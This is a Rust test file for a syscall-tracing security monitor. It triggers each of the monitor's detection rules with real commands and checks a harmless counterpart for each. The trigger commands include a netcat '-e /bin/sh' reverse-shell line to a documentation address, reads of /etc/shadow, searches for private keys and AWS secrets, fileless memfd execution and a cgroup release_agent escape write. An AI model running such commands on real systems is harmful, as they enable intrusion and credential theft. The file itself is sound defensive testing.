//! Each default rule (agent/rules/default.yaml), triggered by a real command under the real
//! ptrace driver, and a benign neighbour that must not trigger it. Commands are grouped so
//! that one `lanner run` triggers several rules, but every rule is asserted by name; the last
//! test checks that every rule in the file is named here. Where a rule needs something this
//! machine may lack (a route out, an ssh client, a writable cgroup hierarchy, the i386 ABI),
//! the test probes for it and, if missing, prints why it skipped and checks that the rule at
//! least compiles and that its syscalls are traced.

mod common;

use common::{ptrace_available, LANNER};

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use lanner::engine;
use lanner_common::syscalls::SyscallId;

/// Rule names from the JSON alert lines in `text`.
fn rule_names(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v["rule"].as_str().map(str::to_owned))
        .collect()
}

/// Runs `sh -c script` under lanner with the embedded rules.
fn run_sh(script: &str) -> Output {
    Command::new(LANNER)
        .args(["run", "--driver", "ptrace", "--", "sh", "-c", script])
        .stdin(Stdio::null())
        .output()
        .expect("lanner runs")
}

/// Runs `sh -c script` under lanner with the embedded rules; returns the rule names alerted.
fn alerts_for(script: &str) -> Vec<String> {
    let out = run_sh(script);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{script}: {stderr}");
    rule_names(&stderr)
}

/// Asserts that each rule fired in `trigger` and not in `benign`, naming every rule that
/// does not hold in one message.
fn assert_pairs(rules: &[&str], trigger: &[String], benign: &[String]) {
    let mut wrong = Vec::new();
    for rule in rules {
        if !trigger.iter().any(|r| r == rule) {
            wrong.push(format!("{rule}: not raised by its trigger"));
        }
        if benign.iter().any(|r| r == rule) {
            wrong.push(format!("{rule}: raised by its benign neighbour"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{wrong:#?}\ntrigger raised {trigger:?}\nbenign raised {benign:?}"
    );
}

/// For a rule whose trigger cannot run here: it compiles in the embedded set, is enabled, can
/// match `syscalls`, and those syscalls are in the interest set the drivers trace.
fn assert_served(rule: &str, syscalls: &[&str]) {
    let ruleset = engine::default_ruleset().expect("embedded rules");
    let compiled = ruleset
        .rule_by_name(rule)
        .unwrap_or_else(|| panic!("{rule} is not in the embedded rules"));
    assert!(compiled.enabled, "{rule} is disabled");
    let interest = engine::interest(&ruleset);
    for name in syscalls {
        let code = lanner_rules::event_type_by_name(name).expect("event type");
        assert!(
            compiled.interest.contains(code),
            "{rule} cannot match {name}"
        );
        let id = SyscallId::from_name(name).expect("syscall");
        assert!(interest.contains(id), "{name} is not traced");
    }
}

fn skip(rule: &str, why: &str, syscalls: &[&str]) {
    eprintln!("SKIPPED: {rule}: {why}; checked only that it compiles and is traced");
    assert_served(rule, syscalls);
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("lanner-rules-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// A copy of `from` named `name` in `dir`: the rules look at program names, and this machine
/// need not have the real tool (or should not run it).
fn program(dir: &Path, name: &str, from: &str) -> String {
    let to = dir.join(name);
    std::fs::copy(from, &to).unwrap_or_else(|e| panic!("copy {from}: {e}"));
    to.display().to_string()
}

fn have(program: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
fn write_below_binary_dir() {
    if !ptrace_available() {
        return;
    }
    let target = format!("/usr/local/bin/lanner-test-{}", std::process::id());
    let alerts = alerts_for(&format!("touch {target}; rm -f {target}"));
    assert!(
        alerts
            .iter()
            .any(|r| r == "Write below binary dir by workload"),
        "{alerts:?}"
    );
    let dir = scratch("bin");
    let benign = alerts_for(&format!("touch {}/x", dir.display()));
    assert!(
        !benign
            .iter()
            .any(|r| r == "Write below binary dir by workload"),
        "{benign:?}"
    );
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn write_below_etc() {
    if !ptrace_available() {
        return;
    }
    let target = format!("/etc/lanner-test-{}", std::process::id());
    let alerts = alerts_for(&format!("echo x > {target}; rm -f {target}"));
    assert!(
        alerts.iter().any(|r| r == "Write below etc by workload"),
        "{alerts:?}"
    );
    // creat(2) (85 on x86_64), which upstream's open_write macro leaves out.
    if have("perl") {
        let created = alerts_for(&format!(
            "perl -e 'my $p = \"{target}\"; syscall(85, $p, 0644) >= 0 or exit 1'; rm -f {target}"
        ));
        assert!(
            created.iter().any(|r| r == "Write below etc by workload"),
            "creat: {created:?}"
        );
    } else {
        eprintln!("SKIPPED: perl is not installed; it makes the creat call");
    }
    let benign = alerts_for("cat /etc/hostname > /dev/null");
    assert!(
        !benign.iter().any(|r| r == "Write below etc by workload"),
        "{benign:?}"
    );
}

#[test]
fn package_manager_at_run_time() {
    if !ptrace_available() {
        return;
    }
    let alerts = alerts_for("dpkg --version > /dev/null");
    assert!(
        alerts
            .iter()
            .any(|r| r == "Package manager run by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for("ls / > /dev/null");
    assert!(
        !benign
            .iter()
            .any(|r| r == "Package manager run by workload"),
        "{benign:?}"
    );
}

#[test]
fn netcat_remote_shell() {
    if !ptrace_available() {
        return;
    }
    // A program named nc (a copy of `true`): the rule looks at the name and the options.
    let dir = scratch("nc");
    let nc = dir.join("nc");
    std::fs::copy("/bin/true", &nc).expect("copy true");
    let alerts = alerts_for(&format!("{} -e /bin/sh 192.0.2.1 4444", nc.display()));
    assert!(
        alerts
            .iter()
            .any(|r| r == "Netcat remote shell by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for(&format!("{} -z 192.0.2.1 4444", nc.display()));
    assert!(
        !benign
            .iter()
            .any(|r| r == "Netcat remote shell by workload"),
        "{benign:?}"
    );
    std::fs::remove_dir_all(dir).ok();
}

#[test]
fn io_uring_setup() {
    if !ptrace_available() {
        return;
    }
    // io_uring_setup(1, NULL): fails with EFAULT, but the attempt is what the rule is about.
    let alerts = alerts_for("perl -e 'syscall(425, 1, 0)'");
    assert!(
        alerts.iter().any(|r| r == "io_uring used by workload"),
        "{alerts:?}"
    );
    let benign = alerts_for("perl -e 'syscall(39)'");
    assert!(
        !benign.iter().any(|r| r == "io_uring used by workload"),
        "{benign:?}"
    );
}

/// File rules: reads, links, truncations, removals and mode changes, in one run each way.
#[test]
fn file_rules() {
    if !ptrace_available() {
        return;
    }
    let dir = scratch("files");
    let d = dir.display();
    std::fs::write(dir.join("key.pem"), "-----BEGIN PRIVATE KEY-----\n").expect("key");
    std::fs::write(dir.join("f"), "data\n").expect("f");
    let bin = format!("/usr/local/bin/lanner-test-modify-{}", std::process::id());
    let trigger = alerts_for(&format!(
        "echo /tmp/../../etc/hostname | xargs cat > /dev/null
         cat /etc/shadow > /dev/null
         grep -rl 'BEGIN PRIVATE' {d} > /dev/null
         grep -ril aws_secret_access_key {d} || true
         find {d}/.aws/credentials 2> /dev/null || true
         : > {d}/syslog
         cp {d}/f {d}/doomed && shred {d}/doomed
         ln -s /etc/shadow {d}/shadow-link
         ln /etc/shadow {d}/shadow-hardlink 2> /dev/null; rm -f {d}/shadow-hardlink
         chmod u+s {d}/f
         : > {d}/.bash_history; rm {d}/.bash_history
         touch {bin}; rm {bin}"
    ));
    let benign = alerts_for(&format!(
        "echo /etc/hostname | xargs cat > /dev/null
         cat /etc/hostname > /dev/null
         grep -rl hello {d} || true
         grep -ril region {d} || true
         find {d}/.aws/config 2> /dev/null || true
         echo x >> {d}/syslog
         cp {d}/f {d}/doomed && rm {d}/doomed
         ln -s /etc/hostname {d}/hostname-link
         ln {d}/f {d}/f-hardlink
         chmod 755 {d}/f
         : > {d}/notes; rm {d}/notes
         touch {d}/tool; rm {d}/tool"
    ));
    assert_pairs(
        &[
            "Directory traversal monitored file read",
            "Read sensitive file untrusted",
            "Search Private Keys or Passwords",
            "Find AWS Credentials",
            "Clear Log Activities",
            "Remove Bulk Data from Disk",
            "Create Symlink Over Sensitive Files",
            "Create Hardlink Over Sensitive Files",
            "Set setuid or setgid bit by workload",
            "Delete or rename shell history by workload",
            "Modify binary dirs by workload",
        ],
        &trigger,
        &benign,
    );
    std::fs::remove_dir_all(dir).ok();
}

/// Process rules: who runs what, from where, as whom.
#[test]
fn process_rules() {
    if !ptrace_available() {
        return;
    }
    let dir = scratch("procs");
    let d = dir.display();
    // Perl under server and sshd names stands in for those daemons: the rules look at names.
    let nginx = program(&dir, "nginx", "/usr/bin/perl");
    let sshd = program(&dir, "sshd", "/usr/bin/perl");
    let nmap = program(&dir, "nmap", "/bin/true");
    let curl = program(&dir, "curl", "/bin/true");
    // Copied by the test, not by the workload: executing it is not drop-and-execute.
    let prebuilt = program(&dir, "prebuilt", "/bin/true");
    let shm = format!("/dev/shm/lanner-test-{}", std::process::id());
    std::fs::copy("/bin/true", &shm).expect("copy to /dev/shm");
    let memfd_exec = "import os; fd = os.memfd_create('payload'); \
                      os.write(fd, open('/bin/true', 'rb').read()); os.execve(fd, ['payload'], {})";
    let trigger = alerts_for(&format!(
        "{nginx} -e 'system(\"sh\", \"-c\", \"true\")'
         {sshd} -e 'system(\"setpriv\", \"--reuid=65534\", \"--regid=65534\", \"--clear-groups\", \"true\")'
         {nmap} -sT 192.0.2.1
         {shm}
         cp /bin/true {d}/payload && {d}/payload
         python3 -c \"{memfd_exec}\""
    ));
    let benign = alerts_for(&format!(
        "perl -e 'system(\"sh\", \"-c\", \"true\")'
         {sshd} -e 'system(\"true\")'
         {curl} --version
         cd /dev/shm && /bin/true
         {prebuilt}
         python3 -c \"import os; os.execv('/bin/true', ['true'])\""
    ));
    assert_pairs(
        &[
            "Run shell untrusted",
            "System user interactive",
            "Launch suspicious network tool by workload",
            "Execution from /dev/shm",
            "Drop and execute new binary by workload",
            "Fileless execution via memfd_create",
        ],
        &trigger,
        &benign,
    );
    std::fs::remove_file(shm).ok();
    std::fs::remove_dir_all(dir).ok();
}

/// Syscall rules, made with perl's syscall(): the calls fail (no module, no BPF program, no
/// such pid), but the attempt is what each rule is about.
#[test]
fn syscall_rules() {
    if !ptrace_available() {
        return;
    }
    // socket(AF_PACKET, SOCK_RAW); socket(AF_INET, SOCK_RAW, ICMP); init_module(NULL, 0, NULL);
    // finit_module(-1); ptrace(PTRACE_ATTACH, a pid above pid_max); ptrace(PTRACE_TRACEME);
    // bpf(BPF_PROG_LOAD, NULL, 0).
    let trigger = alerts_for(
        "perl -e 'socket(P, 17, 3, 0); socket(R, 2, 3, 1); syscall(175, 0, 0, 0);
                  syscall(313, -1, 0, 0); syscall(101, 16, 2147483647, 0, 0);
                  syscall(101, 0, 0, 0, 0); syscall(321, 5, 0, 0)'",
    );
    // TCP and UDP sockets; getpid; ptrace(PTRACE_PEEKDATA); bpf(BPF_MAP_CREATE, NULL, 0).
    let benign = alerts_for(
        "perl -e 'socket(T, 2, 1, 0); socket(U, 2, 2, 0); syscall(39);
                  syscall(101, 2, 2147483647, 0, 0); syscall(321, 0, 0, 0)'",
    );
    assert_pairs(
        &[
            "Packet socket created by workload",
            "Raw socket created by workload",
            "Kernel module load by workload",
            "PTRACE attached to process",
            "PTRACE anti-debug attempt",
            "BPF program loaded by workload",
        ],
        &trigger,
        &benign,
    );
}

/// A reverse shell's shape: bash's /dev/tcp connects a socket and dup2s it onto stdout.
#[test]
fn redirect_stdout_to_network() {
    if !ptrace_available() {
        return;
    }
    let rule = "Redirect stdout/stdin to network connection by workload";
    if !have("bash") {
        return skip(rule, "no bash for /dev/tcp", &["dup2"]);
    }
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("port").port();
    let dir = scratch("redirect");
    let trigger = alerts_for(&format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'"));
    let benign = alerts_for(&format!("bash -c 'echo hi > {}/out'", dir.display()));
    assert_pairs(&[rule], &trigger, &benign);
    std::fs::remove_dir_all(dir).ok();
}

/// userfaultfd(UFFD_USER_MODE_ONLY) as nobody, which kernels from 5.11 allow; root's is benign.
#[test]
fn unprivileged_userfaultfd() {
    if !ptrace_available() {
        return;
    }
    let rule = "Unprivileged userfaultfd by workload";
    let as_nobody = "setpriv --reuid=65534 --regid=65534 --clear-groups \
                     perl -e 'exit(syscall(323, 1) < 0 ? 1 : 0)'";
    let works = Command::new("sh")
        .args(["-c", as_nobody])
        .status()
        .is_ok_and(|s| s.success());
    if !works {
        return skip(
            rule,
            "this kernel refuses userfaultfd to unprivileged users (or setpriv is missing)",
            &["userfaultfd"],
        );
    }
    let trigger = alerts_for(as_nobody);
    let benign = alerts_for("perl -e 'syscall(323, 1)'");
    assert_pairs(&[rule], &trigger, &benign);
}

/// Python with a few bytes of machine code: kill(0, 0) through `int 0x80`, and the same call
/// through `syscall`.
fn kill_zero(int80: bool) -> String {
    let code = if int80 {
        // mov eax, 37; xor ebx, ebx; xor ecx, ecx; int 0x80; ret
        "b8250000 0031db31c9cd80c3"
    } else {
        // mov eax, 62; xor edi, edi; xor esi, esi; syscall; ret
        "b83e0000 0031ff31f60f05c3"
    };
    format!(
        "import ctypes, mmap
m = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(bytes.fromhex('{code}'))
f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
raise SystemExit(0 if f() == 0 else 1)"
    )
}

#[test]
fn syscall_through_the_i386_abi() {
    if !ptrace_available() {
        return;
    }
    let rule = "32-bit syscall by workload";
    let works = Command::new("python3")
        .args(["-c", &kill_zero(true)])
        .status()
        .is_ok_and(|s| s.success());
    if !works {
        return skip(
            rule,
            "no python3, or this kernel has no i386 syscall ABI",
            &["kill"],
        );
    }
    let trigger = alerts_for(&format!("python3 -c \"{}\"", kill_zero(true)));
    let benign = alerts_for(&format!("python3 -c \"{}\"", kill_zero(false)));
    assert_pairs(&[rule], &trigger, &benign);
}

/// ssh to port 4444 of a documentation address (TEST-NET-2): the connect goes out through the
/// default route and the rule judges the connect; ssh gives up after a second.
#[test]
fn ssh_to_a_non_standard_port() {
    if !ptrace_available() {
        return;
    }
    let rule = "Disallowed SSH Connection Non Standard Port";
    let has_default_route = std::fs::read_to_string("/proc/net/route").is_ok_and(|t| {
        t.lines()
            .skip(1)
            .any(|l| l.split('\t').nth(1) == Some("00000000"))
    });
    if !have("ssh") || !has_default_route {
        return skip(rule, "no ssh client or no default route", &["connect"]);
    }
    let ssh = |port: u16| {
        format!(
            "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no \
             -o UserKnownHostsFile=/dev/null \
             -p {port} 198.51.100.1 true 2> /dev/null; true"
        )
    };
    let trigger = alerts_for(&ssh(4444));
    let benign = alerts_for(&ssh(22));
    assert_pairs(&[rule], &trigger, &benign);
}

/// A server reading /etc/shadow long after it started is suspicious; at startup it is not.
/// The test waits out the rule's five seconds.
#[test]
fn sensitive_file_read_by_a_server_after_startup() {
    if !ptrace_available() {
        return;
    }
    let dir = scratch("server");
    let nginx = program(&dir, "nginx", "/usr/bin/perl");
    let read_after = |secs: u32| {
        alerts_for(&format!(
            "{nginx} -e 'sleep {secs}; open(F, \"<\", \"/etc/shadow\") or die'"
        ))
    };
    let trigger = read_after(6);
    let benign = read_after(0);
    assert_pairs(
        &["Read sensitive file trusted after startup"],
        &trigger,
        &benign,
    );
    std::fs::remove_dir_all(dir).ok();
}

/// A cgroup whose path names a container (a 64-hex-digit id), made in the first writable
/// hierarchy, so that a workload moved into it is in a "container" as the runtimes mark one.
struct FakeContainer {
    dir: PathBuf,
}

impl FakeContainer {
    const ID: &'static str = "1a2b3c4d5e6f1a2b3c4d5e6f1a2b3c4d5e6f1a2b3c4d5e6f1a2b3c4d5e6f1a2b";

    fn new() -> Option<FakeContainer> {
        let parent = format!("lanner-test-{}", std::process::id());
        for base in [
            "/sys/fs/cgroup/pids",
            "/sys/fs/cgroup/unified",
            "/sys/fs/cgroup",
        ] {
            let dir = Path::new(base).join(&parent).join(Self::ID);
            if std::fs::create_dir_all(&dir).is_ok() && dir.join("cgroup.procs").exists() {
                return Some(FakeContainer { dir });
            }
            // Not a cgroup filesystem (a tmpfs holding v1 mounts, say): undo and go on.
            let _ = std::fs::remove_dir(&dir);
            let _ = std::fs::remove_dir(Path::new(base).join(&parent));
        }
        None
    }
}

impl Drop for FakeContainer {
    fn drop(&mut self) {
        // cgroup directories go with rmdir, once their processes have exited.
        let _ = std::fs::remove_dir(&self.dir);
        if let Some(parent) = self.dir.parent() {
            let _ = std::fs::remove_dir(parent);
        }
    }
}

/// Runs `sh script` under lanner on a terminal (script(1) gives it one); returns the exit
/// status and the rules alerted.
fn alerts_on_a_tty(script: &str, dir: &Path) -> (Option<i32>, Vec<String>) {
    let alerts = dir.join("alerts.jsonl");
    let _ = std::fs::remove_file(&alerts);
    let file = dir.join("workload.sh");
    std::fs::write(&file, script).expect("script");
    let command = format!(
        "'{LANNER}' run --driver ptrace --alerts-out '{}' -- sh '{}'",
        alerts.display(),
        file.display()
    );
    let out = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .expect("script runs");
    let text = std::fs::read_to_string(&alerts).unwrap_or_default();
    (out.status.code(), rule_names(&text))
}

/// Container rules: a shell on a terminal as a container's entrypoint, and a write to a file
/// named release_agent (the cgroup v1 escape) from inside it. The benign neighbours are the
/// same commands outside the container.
#[test]
fn container_rules() {
    if !ptrace_available() {
        return;
    }
    let rules = [
        "Terminal shell in container",
        "Detect release_agent File Container Escapes",
    ];
    let skip_all = |why: &str| {
        skip(rules[0], why, &["execve"]);
        skip(rules[1], why, &["openat"]);
    };
    if !have("script") {
        return skip_all("no script(1) to give the workload a terminal");
    }
    let Some(container) = FakeContainer::new() else {
        return skip_all("no writable cgroup hierarchy to make a container-like cgroup in");
    };
    let dir = scratch("container");
    let d = dir.display();
    let inside = format!("exec sh -c ': > {d}/release_agent; sh -c true'");
    // Exit 97 when the move is refused (cgroup v2 may refuse it from here).
    let (status, trigger) = alerts_on_a_tty(
        &format!(
            "echo $$ > {}/cgroup.procs || exit 97\n{inside}\n",
            container.dir.display()
        ),
        &dir,
    );
    if status == Some(97) {
        std::fs::remove_dir_all(&dir).ok();
        return skip_all("the kernel refused to move the workload into a new cgroup");
    }
    assert_eq!(status, Some(0), "{trigger:?}");
    let (status, benign) = alerts_on_a_tty(&format!("{inside}\n"), &dir);
    assert_eq!(status, Some(0), "{benign:?}");
    assert_pairs(&rules, &trigger, &benign);
    std::fs::remove_dir_all(dir).ok();
}

/// Every rule in the embedded set is named in this file, so a rule added without a test here
/// fails the build's tests.
#[test]
fn every_default_rule_is_tested_here() {
    let this_file = include_str!("default_rules.rs");
    let ruleset = engine::default_ruleset().expect("embedded rules");
    let missing: Vec<&str> = ruleset
        .rules()
        .iter()
        .map(|r| r.name.as_str())
        .filter(|name| !this_file.contains(&format!("\"{name}\"")))
        .collect();
    assert!(missing.is_empty(), "no real-command test for {missing:?}");
    assert_eq!(ruleset.rules().len(), 35);
}
